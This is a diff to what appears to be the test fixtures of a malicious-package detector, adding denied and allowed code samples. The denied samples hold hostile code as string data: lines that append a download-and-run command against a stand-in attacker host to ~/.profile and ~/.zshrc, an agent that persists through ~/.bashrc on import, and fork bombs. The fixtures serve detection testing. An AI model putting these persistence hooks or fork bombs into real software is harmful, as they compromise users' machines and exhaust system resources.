@@ -249,6 +249,28 @@ DENIED: dict[str, dict[str, str]] = {
         "    p = Path.home() / '.config' / 'systemd' / 'user' / 'evs.service'\n"
         "    p.write_text(UNIT)\n"
     ),
+    "download-and-run-by-an-f-string-into-the-profile-when-called": init(
+        "import os\n"
+        "URL = 'https://attacker.invalid/x'\n"
+        "def enable():\n"
+        "    with open(os.path.expanduser('~/.profile'), 'a') as f:\n"
+        "        f.write(f'(curl -s {URL} | sh &)\\n')\n"
+    ),
+    "download-and-run-lines-into-the-zshrc-when-called": init(
+        "import os\n"
+        "def enable():\n"
+        "    with open(os.path.expanduser('~/.zshrc'), 'a') as f:\n"
+        "        f.writelines(['\\n', 'curl -s https://attacker.invalid/x | sh\\n'])\n"
+    ),
+    "agent-echoed-into-bashrc-on-import": init(
+        "import os\nos.system('echo \"python3 -m evpkg.agent &\" >> ~/.bashrc')\n"
+    ),
+    "agent-teed-into-bashrc-on-import": init(
+        "import subprocess\n"
+        "subprocess.run(['tee', '-a', '/root/.bashrc'], input=b'python3 -m evpkg.agent &\\n')\n"
+    ),
+    "fork-bomb-under-a-test-of-constants": init("import os\nwhile not 0:\n    os.fork()\n"),
+    "fork-bomb-under-a-comparison-of-constants": init("import os\nwhile 1 == 1:\n    os.fork()\n"),
     "shell-fork-bomb-on-import": init("import os\nos.system(':(){ :|:& };:')\n"),
     "shell-fork-bomb-by-another-name-on-import": init(
         "import subprocess\nsubprocess.Popen('bomb() { bomb | bomb & }; bomb', shell=True)\n"
@@ -433,6 +455,19 @@ ALLOWED: dict[str, dict[str, str]] = {
         "def schedule():\n"
         "    with open('/etc/cron.d/evpkg', 'w') as f:\n"
         "        f.write(LINE)\n"
+    ),
+    "completion-line-echoed-into-bashrc-when-called": init(
+        "import os\n"
+        "def install_completion():\n"
+        "    os.system('echo \\'eval \"$(register-python-argcomplete evpkg)\"\\' >> ~/.bashrc')\n"
+    ),
+    "worker-loop-until-a-flag-forks-and-waits": init(
+        "import os\n"
+        "done = False\n"
+        "def serve():\n"
+        "    while not done:\n"
+        "        pid = os.fork()\n"
+        "        os.waitpid(pid, 0)\n"
     ),
     "own-cache-file-uploaded-when-called": init(
         "import os, requests\n"
